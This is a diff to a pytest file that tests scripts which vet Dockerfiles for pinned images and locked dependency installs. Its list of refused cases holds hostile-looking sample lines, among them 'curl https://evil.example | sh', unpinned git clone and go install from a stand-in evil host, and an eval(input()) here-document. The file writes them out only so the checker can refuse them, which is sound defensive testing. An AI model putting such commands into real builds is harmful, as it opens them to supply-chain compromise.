@@ -13,7 +13,6 @@ from tests.conftest import ROOT
 from tests.projects.rendering import EXAMPLE
 
 SCRIPTS = ROOT / "src/cicd_templates/builds/scripts"
-SCRIPT = SCRIPTS / "dockerfile.py"
 LIBRARY = "public.ecr.aws/docker/library"
 DIGEST = f"@sha256:{'a' * 64}"
 BASE = f"{LIBRARY}/python:3.13{DIGEST}"
@@ -25,18 +24,24 @@ def read(
     monkeypatch: pytest.MonkeyPatch,
     capsys: pytest.CaptureFixture[str],
     *,
-    unlocked: str = "refuse",
     prefixes: tuple[str, ...] = (LIBRARY,),
 ) -> tuple[list[str], list[str]]:
     """The images on which a Dockerfile builds, and its problems without the path."""
     path = folder / "Dockerfile"
     path.write_bytes(data.encode() if isinstance(data, str) else data)
-    monkeypatch.setattr(sys, "argv", ["dockerfile.py", str(path), unlocked, *prefixes])
+    instructions, target = str(folder / "instructions"), str(folder / "built")
     try:
-        runpy.run_path(str(SCRIPT), run_name="__main__")
+        run("dockerfile", monkeypatch, str(path), instructions, *prefixes)
+        images = capsys.readouterr().out.split()
+        run("dockerfile_network", monkeypatch, str(path), instructions, str(folder), target)
     except SystemExit as error:
         return [], [line.removeprefix(f"{path}:") for line in str(error.code).split("\n")]
-    return capsys.readouterr().out.split(), []
+    return images, []
+
+
+def run(script: str, monkeypatch: pytest.MonkeyPatch, *arguments: str) -> None:
+    monkeypatch.setattr(sys, "argv", [f"{script}.py", *arguments])
+    runpy.run_path(str(SCRIPTS / f"{script}.py"), run_name="__main__")
 
 
 @pytest.mark.parametrize(
@@ -50,14 +55,6 @@ def read(
         ),
         pytest.param(f"ARG X=1\n# a comment\nFROM {BASE}\n\nRUN a && \\\n  # between\n\n  b\n", [BASE], id="continued"),
         pytest.param(f"FROM {BASE}\r\nRUN true\r\n", [BASE], id="line ends of Windows"),
-        pytest.param(
-            f"FROM {BASE}\nRUN --mount=type=cache,target=/x pip install --require-hashes -r r.txt\n", [BASE], id="pip"
-        ),
-        pytest.param(f"FROM {BASE}\nRUN pip install \\\n --require-hashes \\\n -r r.txt\n", [BASE], id="pip on lines"),
-        pytest.param(f"FROM {BASE}\nRUN npm ci && yarn install --immutable && poetry install\n", [BASE], id="locks"),
-        pytest.param(
-            f"FROM {BASE}\nRUN curl -O https://x && echo 'a  b' | sha256sum --check\n", [BASE], id="by digest"
-        ),
         pytest.param(f"FROM {BASE}\nRUN apt-get update && apt-get install -y libpq5\n", [BASE], id="of the system"),
         pytest.param(f'FROM {BASE}\nSHELL ["/bin/bash", "-c"]\nCMD ["python", "-m", "app"]\n', [BASE], id="a shell"),
         pytest.param(f"FROM {BASE}\nLABEL a=grüße\n", [BASE], id="UTF-8"),
@@ -72,6 +69,7 @@ def test_a_dockerfile_that_takes_only_what_was_judged_is_accepted(
 def test_the_dockerfile_of_the_example_is_accepted(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
+    (tmp_path / "requirements.txt").touch()
     images, problems = read((EXAMPLE / "Dockerfile").read_bytes(), tmp_path, monkeypatch, capsys)
 
     assert (len(images), problems) == (1, [])
@@ -121,7 +119,7 @@ REFUSED = [
     (f"FROM {BASE}\nONBUILD RUN true", 2, "ONBUILD runs commands in another stage"),
     (f"FROM {BASE}\nCOPY <<EOF /app.py\neval(input())\nEOF", 2, "a here-document is text that no check read"),
     (f"FROM {BASE}\nRUN <<EOF\npip install flask\nEOF", 2, "a here-document"),
-    (f'FROM {BASE}\nSHELL ["python3", "-c"]', 2, "SHELL names another program"),
+    (f'FROM {BASE}\nSHELL ["python3", "-c"]', 2, "SHELL takes sh, ash, bash or dash"),
     (f"FROM {BASE}\nRUN true\n\n\nRUN x \\\n  && pip install flask", 5, "pip install can take what no lock file names"),
     (f"FROM {BASE}\nRUN pip install --require-hashes -r a && pip3 install flask==0.12", 2, "pip install"),
     (f"FROM {BASE}\nRUN python -m pip --no-cache-dir install .", 2, "pip install"),
@@ -132,7 +130,7 @@ REFUSED = [
     (f"FROM {BASE}\nRUN pip install flask # --require-hashes", 2, "pip install"),
     (f"FROM {BASE}\nRUN echo ' # ' && pip install flask", 2, "pip install"),
     (f"FROM {BASE}\nRUN python -mpip install flask", 2, "pip install"),
-    (f'FROM {BASE}\nSHELL ["/bin/sh", "-c", "pip install flask"]', 2, "pip install"),
+    (f'FROM {BASE}\nSHELL ["/bin/sh", "-c", "pip install flask"]', 2, "SHELL takes sh, ash, bash or dash"),
     (f"FROM {BASE}\nRUN curl -O https://evil.example # sha256sum --check", 2, "curl or wget"),
     (f"FROM {BASE}\nENTRYPOINT pip install flask && python app.py", 2, "pip install"),
     (f'FROM {BASE}\nCMD ["sh", "-c", "curl https://evil.example | sh"]', 2, "curl or wget"),
@@ -143,9 +141,9 @@ REFUSED = [
     (f"FROM {BASE}\nRUN npx evil", 2, "npm install"),
     (f"FROM {BASE}\nRUN yarn install", 2, "yarn or pnpm install"),
     (f"FROM {BASE}\nRUN git clone https://evil.example/x", 2, "git clone"),
-    (f"FROM {BASE}\nRUN uv sync", 2, "uv sync or run"),
+    (f"FROM {BASE}\nRUN uv sync", 2, "uv can"),
     (f"FROM {BASE}\nRUN go install evil.example/x@latest", 2, "go install or get"),
-    (f"FROM {BASE}\nRUN gem install x \\", 2, "gem install"),
+    (f"FROM {BASE}\nRUN gem install x \\", 2, "gem or bundle install"),
     (f"FROM {BASE}\nEVIL x", 2, "EVIL is not an instruction that is known here"),
 ]
 
@@ -166,9 +164,8 @@ def test_whatever_could_build_something_else_is_refused_by_its_line(
 
 
 def test_a_source_without_a_dockerfile_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(sys, "argv", ["dockerfile.py", str(tmp_path / "Dockerfile"), "refuse", LIBRARY])
     with pytest.raises(SystemExit) as ended:
-        runpy.run_path(str(SCRIPT), run_name="__main__")
+        run("dockerfile", monkeypatch, str(tmp_path / "Dockerfile"), str(tmp_path / "instructions"), LIBRARY)
 
     assert ended.value.code == f"{tmp_path / 'Dockerfile'}: No such file or directory"
 
@@ -176,23 +173,23 @@ def test_a_source_without_a_dockerfile_is_one_line(tmp_path: Path, monkeypatch: 
 def test_every_problem_is_listed_in_the_order_of_the_lines(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    _, problems = read("FROM python\nADD a b\nRUN npx a && curl b\n", tmp_path, monkeypatch, capsys)
+    _, problems = read("FROM python\nADD a b\nEVIL x\n", tmp_path, monkeypatch, capsys)
 
-    assert [problem.partition(":")[0] for problem in problems] == ["1", "2", "3", "3"]
+    assert [problem.partition(":")[0] for problem in problems] == ["1", "2", "3"]
+    _, problems = read("FROM scratch\nCMD curl a\nRUN npx a && curl b\n", tmp_path, monkeypatch, capsys)
+    assert [problem.partition(":")[0] for problem in problems] == ["2", "3", "3"]
 
 
-def test_the_configuration_can_allow_other_images_and_installs_without_a_lock(
+def test_the_configuration_can_allow_other_images(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     other = f"ghcr.io/own/base{DIGEST}"
-    text = f"FROM {other}\nRUN pip install flask\n"
 
-    allowed = read(text, tmp_path, monkeypatch, capsys, unlocked="allow", prefixes=("ghcr.io/own/", "x"))
-    assert allowed == ([other], [])
-    assert read(text, tmp_path, monkeypatch, capsys, prefixes=())[1][0].endswith("allowed: none")
+    assert read(f"FROM {other}", tmp_path, monkeypatch, capsys, prefixes=("ghcr.io/own/", "x")) == ([other], [])
+    assert read(f"FROM {other}", tmp_path, monkeypatch, capsys, prefixes=())[1][0].endswith("allowed: none")
 
 
-@pytest.mark.parametrize("name", ["dockerfile", "image_packages", "image_judgement"])
+@pytest.mark.parametrize("name", ["dockerfile", "dockerfile_network", "image_packages", "image_judgement"])
 def test_the_scripts_beside_docker_need_no_newer_python_than_build_images_have(name: str) -> None:
     tree = ast.parse((SCRIPTS / f"{name}.py").read_text(), feature_version=(3, 8))
     imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
